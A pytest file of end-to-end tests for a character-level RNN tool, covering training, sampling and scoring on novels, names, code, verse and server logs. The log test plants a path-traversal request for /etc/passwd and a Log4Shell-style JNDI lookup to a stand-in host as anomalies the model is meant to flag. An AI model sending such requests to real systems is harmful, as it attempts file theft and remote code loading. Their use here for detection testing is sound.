"""The README's walkthroughs from beginning to end, with small texts and small models."""

import json
import subprocess
from pathlib import Path

import pytest

from charrnn.data.catalogue import Bundled, read_catalogue
from tests.support.anomalies import given_names
from tests.support.forked import forked
from tests.support.program import SMALL, explain

pytestmark = pytest.mark.slow

pytestmark = pytest.mark.slow

QUICK = ("--lr", "0.01", "--dropout", "0", "--weight-drop", "0")


def run(folder: Path, *arguments: str, stdin: str = "") -> subprocess.CompletedProcess[bytes]:
    result = forked(*arguments, cwd=folder, stdin=stdin.encode())
    assert result.returncode == 0, explain(result)
    return result


def ask(folder: Path, *arguments: str, stdin: str = "") -> str:
    """Return the output of a command of the program."""
    return run(folder, *arguments, stdin=stdin).stdout.decode()


def poems() -> list[str]:
    """The bundled quatrains."""
    entry = read_catalogue()["quatrains"]
    assert isinstance(entry, Bundled)
    return entry.path.read_text(encoding="utf-8").splitlines()


def test_a_novel_lends_its_style(tmp_path: Path) -> None:
    run(tmp_path, "corpus", "export", "tales", "-o", "whole.txt")
    (tmp_path / "novel.txt").write_text((tmp_path / "whole.txt").read_text()[:12_000])
    run(tmp_path, "train", "novel.txt", "--steps", "60", *SMALL)
    prime = ("--prime", "Once, when the river was low,", "--length", "300", "--seed", "1")
    drawn = run(tmp_path, "sample", "novel", *prime, "--temp", "0.6", "--novelty")
    assert len(drawn.stdout.decode()) == 300
    assert b"trained on: of 300 drawn" in drawn.stderr
    assert b"longest span drawn: " in drawn.stderr
    evaluated = ask(tmp_path, "eval", "novel")
    assert "bits per character" in evaluated
    assert "n-grams of order" in evaluated


def test_names_are_new_ones_and_whole(tmp_path: Path) -> None:
    names, _ = given_names()
    (tmp_path / "names.txt").write_text("\n".join(names))
    run(tmp_path, "train", "names.txt", "--records", "line", "--steps", "150", *SMALL)
    wanted = ("--count", "12", "--unique", "--novel", "--temp", "0.8", "--seed", "1")
    new = run(tmp_path, "sample", "names", *wanted)
    made = new.stdout.decode().splitlines()
    assert len(set(made)) == len(made) == 12
    assert not {*names, ""} & set(made)
    assert b"were cut" not in new.stderr
    begun = ask(tmp_path, "sample", "names", "--prime", "Mar", "--count", "3").splitlines()
    assert len(begun) == 3
    assert all(name.startswith("Mar") for name in begun)
    rows = ask(tmp_path, "score", "names", "-", "--json", stdin="Marina\nGfdkpwtb\n").splitlines()
    likely, unlikely = (json.loads(row)["bits_per_char"] for row in rows)
    assert likely < unlikely


def test_source_code_goes_on(tmp_path: Path) -> None:
    run(tmp_path, "train", "python", "--valid", "0.001", "--steps", "40", *SMALL)
    arguments = ("--prime", "def ", "--temp", "0.6", "--length", "200", "--seed", "1")
    drawn = ask(tmp_path, "sample", "python", *arguments)
    assert len(drawn) == 200
    assert drawn == ask(tmp_path, "sample", "python", *arguments)
    (tmp_path / "mine.py").write_text("def main():\n    return 1\n")
    colored = ask(tmp_path, "inspect", "surprisal", "python", "mine.py")
    assert "def main():" in colored
    assert "the characters that cost most" in colored


def test_verse_is_made_in_whole_poems(tmp_path: Path) -> None:
    run(tmp_path, "train", "quatrains", "--records", "line", "--epochs", "12", *SMALL, *QUICK)
    wanted = ("--count", "6", "--novel", "--seed", "1")
    new = run(tmp_path, "sample", "quatrains", *wanted)
    made = new.stdout.decode().splitlines()
    assert len(made) == 6
    assert not set(made) & set(poems())
    assert b"were cut" not in new.stderr
    begun = ask(tmp_path, "sample", "quatrains", "--prime", poems()[2][:2], "--count", "2")
    assert [line[:2] for line in begun.splitlines()] == [poems()[2][:2]] * 2


PAGES = ("/json/__init__.py", "/email/parser.py", "/re/_compiler.py", "/asyncio/tasks.py")
PLANTED = (
    '127.0.0.1 - - [22/Nov/2026 10:00:07] "GET /../../../../etc/passwd HTTP/1.1" 404 -',
    "127.0.0.1 - - [22/Nov/2026 10:00:11] code 501, message Unsupported method ('DELETE')",
    '127.0.0.1 - - [22/Nov/2026 10:00:13] "GET /?x=${jndi:ldap://x.example/a} HTTP/1.1" 200 -',
)


def visits(count: int, first: int) -> list[str]:
    """Lines that an ordinary day writes into a server's log."""
    return [
        f"127.0.0.1 - - [22/Nov/2026 09:{number // 60 % 60:02}:{number % 60:02}] "
        f'"HEAD {PAGES[number * number % 7 % len(PAGES)]} HTTP/1.1" 200 -'
        for number in range(first, first + count)
    ]


def test_the_lines_that_do_not_belong_in_a_log_come_first(tmp_path: Path) -> None:
    (tmp_path / "monday.log").write_text("\n".join(visits(200, 0)))
    tuesday = visits(60, 500)
    for place, line in enumerate(PLANTED):
        tuesday.insert(15 * place + 9, line)
    (tmp_path / "tuesday.log").write_text("\n".join(tuesday))
    run(tmp_path, "train", "monday.log", "--records", "line", "--epochs", "6", *SMALL, *QUICK)
    arguments = ("score", "monday", "tuesday.log", "--unknown", "replace", "--worst", "3")
    rows = [line.split("\t") for line in ask(tmp_path, *arguments).splitlines()]
    assert {row[2] for row in rows} == set(PLANTED)
    costs = [float(row[1]) for row in rows]
    assert costs == sorted(costs, reverse=True)
